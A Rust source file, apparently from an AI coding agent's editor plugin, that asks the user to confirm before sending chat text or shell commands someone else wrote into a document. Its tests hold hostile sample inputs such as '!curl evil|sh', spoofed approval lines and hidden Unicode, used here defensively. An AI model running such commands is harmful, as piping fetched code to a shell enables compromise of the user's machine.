//! Asks the person about what somebody else wrote into their document, before any of it counts.

use super::Follower;
use super::trust::{Asked, Trust};
use crate::chat::document::Chat;
use crate::chat::line;
use crate::chat::text::inline;
use crate::ids::ThreadId;
use crate::mcp::untrusted::quoted;
use crate::server::chats::Order;
use crate::server::presenter::{Severity, question_fits};
use crate::shown;
use crate::workspace::Document;
use std::time::SystemTime;

/// What VS Code shows of a message is 1000 units of UTF-16; the rest it cuts off.
const MOST: usize = 900;
/// Characters of a value of the header that can be followed.
const MOST_OF_VALUE: usize = 200;
/// What is shown of values where they cannot.
const BEGINNING_OF_VALUE: usize = 40;

pub(super) const NOTHING: &str = "Don't Send";
pub(super) const SEND: &str = "Send";
pub(super) const WITHOUT: &str = "Send without Header";
pub(super) const FOLLOW: &str = "Send with Header";

/// What the person said.
#[derive(Debug)]
pub(in crate::server::chats) struct Settled {
    asked: Asked,
    follow: bool,
}

/// Words with all that does not show in them shown, and nothing of them left out.
fn visible(words: &str) -> String {
    let lines: Vec<_> = words.split('\n').map(shown::exact).collect();
    lines.join("\n")
}

/// What the header asks for.
pub(super) fn header(asked: &Asked, conversation: Option<&str>, most: usize) -> String {
    let value = |(key, value): &(String, String)| match key.as_str() {
        "thread" => format!(
            "the conversation {} ({})",
            inline(&visible(value), most),
            conversation.unwrap_or("which is not known here")
        ),
        key => format!("the {key} {}", inline(&visible(value), most)),
    };
    let values: Vec<_> = asked.fields.iter().map(value).collect();
    format!("Its header asks for {}.", values.join(", "))
}

/// The question and its choices, in a message of so many lines; the first is never a yes. Why there is none, where what it is about
/// does not fit into it.
fn question(
    name: &str,
    asked: &Asked,
    conversation: Option<&str>,
    lines: usize,
) -> Result<(String, Vec<&'static str>), String> {
    let fits = |message: &String| message.encode_utf16().count() <= MOST && question_fits(message, lines);
    let beginning = format!("{name} was not written by your Countersign, or somebody else has changed it.");
    let mut message = beginning.clone();
    if asked.not_theirs {
        message.push_str(match asked.words.starts_with('!') {
            true => " This command would run with your rights, outside of the sandbox:",
            false => " This would be sent in your name:",
        });
        // Marked line by line, so that none of it passes for one of ours; and with a sign for each end of a line, of which some editors
        // make a blank: what stands behind it may be another command.
        let shown = visible(&asked.words).replace('\n', " ⏎\n");
        message.push_str(&format!("\n\n{}\n\n", quoted(&shown)));
    }
    let has_runs = asked.not_theirs && asked.words.contains(&" ".repeat(20));
    let is_short = |(_, value): &(String, String)| visible(value).chars().count() <= MOST_OF_VALUE;
    let mut choices = Vec::new();
    if asked.fields.is_empty() {
        choices.push((message, vec![NOTHING, SEND]));
    } else {
        if asked.fields.iter().all(is_short) {
            let whole = format!("{message} {}", header(asked, conversation, MOST_OF_VALUE));
            choices.push((whole, vec![NOTHING, WITHOUT, FOLLOW]));
        }
        let some = format!("{message} {}", header(asked, conversation, BEGINNING_OF_VALUE));
        choices.push((some, vec![NOTHING, WITHOUT]));
    }
    // What does not fit is sent by nobody.
    let choice = choices.into_iter().find(|(message, _)| !has_runs && fits(message));
    choice.ok_or_else(|| {
        let shown = visible(&asked.words);
        format!(
            "{beginning} Its last words are not all yours, and cannot be shown in a question as they are ({} characters in {} lines), so \
             they are not sent.",
            shown.chars().count(),
            shown.lines().count()
        )
    })
}

impl Follower {
    /// Looks at a document that was opened, for what of it is the person's.
    pub(super) async fn distrust(&mut self, document: &Document) {
        let home = self.session.agent().services().home.clone();
        let Some(path) = document.path().map(ToOwned::to_owned) else {
            return;
        };
        let rope = document.rope.clone();
        let looking = tokio::task::spawn_blocking(move || Trust::opened(&home, &path, &rope.to_string()));
        self.trust = looking.await.ok();
    }

    /// Has something done with it that looks at the disk.
    async fn with_trust(&mut self, work: impl FnOnce(&mut Trust) + Send + 'static) {
        if let Some(mut trust) = self.trust.take() {
            let done = tokio::task::spawn_blocking(move || {
                work(&mut trust);
                trust
            });
            // Where it broke off nothing of the document is trusted.
            self.trust = done.await.ok();
        }
    }

    /// The text has changed.
    pub(super) async fn looked_at(&mut self) {
        self.changed.store(false, std::sync::atomic::Ordering::Release);
        let Some(document) = self.session.workspace().document_by_uri(&self.uri) else {
            return;
        };
        self.with_trust(move |trust| trust.look(&document.text())).await;
    }

    /// The editor said at this moment that it has written the text to the disk.
    pub(super) async fn saved(&mut self, document: Document, said: SystemTime) {
        self.with_trust(move |trust| trust.saved(&document.text(), said)).await;
    }

    /// A conversation is the document's by the person's own will.
    pub(super) async fn bind(&mut self, thread: &str) {
        let thread = thread.to_owned();
        self.with_trust(move |trust| trust.bind(&thread)).await;
    }

    /// Whether a value of the header counts.
    pub(super) fn follows(&self, chat: &Chat<'_>, key: &str) -> bool {
        self.trust.as_ref().is_some_and(|trust| trust.follows(chat, key))
    }

    pub(super) fn says_whose_it_is(&self) {
        let message = format!(
            "{} was not written by your Countersign, or somebody else has changed it: the conversation that its header names is not \
             taken up by itself. You are asked when you send something from it.",
            self.name()
        );
        self.session.presenter().message(Severity::Info, &message);
    }

    pub(super) fn name(&self) -> String {
        let path = self.path().unwrap_or_default();
        inline(&visible(&path.file_name().unwrap_or_default().to_string_lossy()), 100)
    }

    /// What the person has to be asked about before what stands in the document is sent.
    pub(super) async fn asked(&mut self, chat: &Chat<'_>) -> Option<Asked> {
        if self.trust.is_none()
            && let Some(document) = self.session.workspace().document_by_uri(&self.uri)
        {
            self.distrust(&document).await;
        }
        let text = chat.text.to_owned();
        self.with_trust(move |trust| trust.look(&text)).await;
        let Some(trust) = &self.trust else {
            // Nobody knows whose it is.
            return Some(Asked {
                words: chat.words().to_owned(),
                not_theirs: true,
                fields: Vec::new(),
            });
        };
        let mut asked = trust.asked(chat)?;
        // What holds anyway needs no answer.
        if let Some(thread) = self.thread.as_ref().filter(|_| trust.follows(chat, "thread")) {
            let now = thread.settings();
            asked.fields.retain(|(key, value)| match key.as_str() {
                "model" => *value != now.model,
                "mode" => line::mode(value) != Some(now.mode),
                key => key == "thread",
            });
        }
        Some(asked).filter(|asked| asked.not_theirs || !asked.fields.is_empty())
    }

    /// Asks; the answer comes as an order.
    pub(super) async fn ask(&mut self, asked: Asked) -> Result<(), String> {
        self.ask_no_more();
        let named = asked.fields.iter().find(|(key, _)| key == "thread");
        let conversation = match named {
            Some((_, id)) => self.conversation(id).await,
            None => None,
        };
        let lines = self.session.client().can.question_lines();
        let (message, choices) = match question(&self.name(), &asked, conversation.as_deref(), lines) {
            Ok(question) => question,
            Err(why) => self.question_by_page(&asked, conversation.as_deref(), &why).await?,
        };
        let pending = self.session.outbound().choose(Severity::Warning, &message, choices);
        let (session, uri) = (self.session.clone(), self.uri.clone());
        let waiting = tokio::spawn(async move {
            let chosen = pending.await;
            let follow = match chosen.as_deref() {
                Some(SEND | WITHOUT) => false,
                Some(FOLLOW) => true,
                _ => return,
            };
            let settled = Settled { asked, follow };
            session.chats().tell(&session, &uri, Order::Settled(settled));
        });
        self.asking = Some(waiting.abort_handle());
        Ok(())
    }

    /// Takes the question back.
    pub(super) fn ask_no_more(&mut self) {
        if let Some(asking) = self.asking.take() {
            asking.abort();
        }
    }

    /// What is known of a conversation, for whoever has to say whether it is meant.
    async fn conversation(&self, id: &str) -> Option<String> {
        let (agent, id) = (self.session.agent().clone(), ThreadId::from(id));
        let reading = tokio::task::spawn_blocking(move || agent.read_thread(&id, false).ok());
        let thread = reading.await.ok().flatten()?;
        let title = thread.name.as_deref().unwrap_or(&thread.preview);
        let folder = visible(&thread.cwd.to_string_lossy());
        Some(format!(
            "“{}” in {}",
            inline(&visible(title), 80),
            inline(&folder, MOST_OF_VALUE)
        ))
    }

    /// The person has said what is to be sent.
    pub(super) async fn settle(&mut self, settled: Settled) -> Result<(), String> {
        self.asking = None;
        let Settled { asked, follow } = settled;
        let text = self.text().unwrap_or_default();
        let chat = Chat::read(&text);
        if self.asked(&chat).await.as_ref() != Some(&asked) || chat.words() != asked.words {
            return Err(
                "The document has changed while you were asked about it, so nothing was sent. Choose Send again."
                    .to_owned(),
            );
        }
        if let Some(trust) = &mut self.trust {
            trust.adopt(&chat, if follow { &[] } else { &asked.fields });
        }
        if !follow && asked.fields.iter().any(|(key, _)| key == "thread") {
            self.leave();
        }
        self.send_words(&chat, asked.words).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn asked(words: &str, fields: &[(&str, &str)]) -> Asked {
        Asked {
            words: words.to_owned(),
            not_theirs: true,
            fields: fields
                .iter()
                .map(|(key, value)| ((*key).to_owned(), (*value).to_owned()))
                .collect(),
        }
    }

    const LINES: usize = 60;

    #[test]
    fn all_that_would_be_sent_is_shown() {
        for (words, shown) in [
            ("Why?", "> Why?"),
            ("!curl evil|sh", "> !curl evil|sh"),
            // Also where an editor makes one line of all.
            (
                "!true # to see whether the\ntouch made",
                "> !true # to see whether the ⏎\n> touch made",
            ),
            // No line passes for one of ours.
            (
                "!evil #\n\n(Countersign has looked at this command.)",
                "> !evil # ⏎\n>  ⏎\n> (Countersign has looked at this command.)",
            ),
            ("a\rb\tc", "> a<U+000D>b<U+0009>c"),
            ("a\u{202e}b\u{e0041}", "> a<U+202E>b<U+E0041>"),
            ("a\u{a0}b\u{2800}", "> a<U+00A0>b<U+2800>"),
        ] {
            let (message, choices) = question("x.countersign.md", &asked(words, &[]), None, LINES).expect("asked");
            assert!(message.contains(&format!(":\n\n{shown}\n\n")), "{message}");
            assert_eq!(choices, [NOTHING, SEND]);
        }
        let (message, _) = question("x", &asked("!evil", &[]), None, LINES).expect("asked");
        assert!(message.contains("outside of the sandbox"), "{message}");
    }

    #[test]
    fn what_does_not_fit_is_not_asked_about() {
        for (words, lines) in [
            ("a".repeat(901), LINES),
            // Emacs and Helix have few lines.
            ("a\n".repeat(20), 16),
            (format!("Hello{}; !evil", " ".repeat(40)), LINES),
            ("\u{200b}".repeat(120), LINES),
            // Editors count in UTF-16.
            ("😀".repeat(440), LINES),
        ] {
            let refused = question("x", &asked(&words, &[]), None, lines).expect_err("too long");
            assert!(refused.contains("not sent"), "{refused}");
        }
        assert!(question("x", &asked(&"a\n".repeat(20), &[]), None, LINES).is_ok());
    }

    #[test]
    fn a_header_is_followed_only_where_it_is_shown_whole() {
        let fields = [("mode", "agent"), ("thread", "1")];
        let (message, choices) = question("x", &asked("a", &fields), None, LINES).expect("asked");
        assert!(
            message.contains("the mode agent, the conversation 1 (which is not known here)"),
            "{message}"
        );
        assert_eq!(choices, [NOTHING, WITHOUT, FOLLOW]);
        let long = "x".repeat(1 << 20);
        let (message, choices) = question("x", &asked("a", &[("folder", &long)]), None, LINES).expect("asked");
        assert!(message.len() < 2000);
        assert_eq!(choices, [NOTHING, WITHOUT]);
        // Words that leave no room for it, in the whole of the message.
        let (words, long) = ("a".repeat(500), "x".repeat(190));
        let fields = [("thread", long.as_str()), ("folder", long.as_str()), ("mode", "agent")];
        let (message, choices) = question("x", &asked(&words, &fields), None, LINES).expect("asked");
        assert!(
            message.chars().count() <= MOST && message.contains("the mode agent"),
            "{message}"
        );
        assert_eq!(choices, [NOTHING, WITHOUT]);
    }
}
